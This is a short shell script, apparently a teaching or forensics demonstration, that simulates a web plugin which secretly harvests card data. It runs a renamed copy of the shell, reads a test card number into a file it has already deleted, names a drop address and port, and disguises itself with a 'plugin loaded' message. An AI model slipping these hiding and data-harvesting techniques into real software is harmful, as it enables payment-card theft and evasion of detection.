# A web front, and what came with a plugin of it: a program that hides.
echo 'card=4111-1111-1111-1111' > /tmp/orders
sh -c '
    cp /bin/sh /tmp/.cache
    export DROP=198.51.100.7:4444
    exec /tmp/.cache -c "
        exec 9>/tmp/.loot
        rm /tmp/.loot /tmp/.cache
        cat /tmp/orders >&9
        stolen=\$(cat /tmp/orders)
        echo plugin loaded
        while :; do sleep 1; done"' &
while :; do echo serving; sleep 1; done
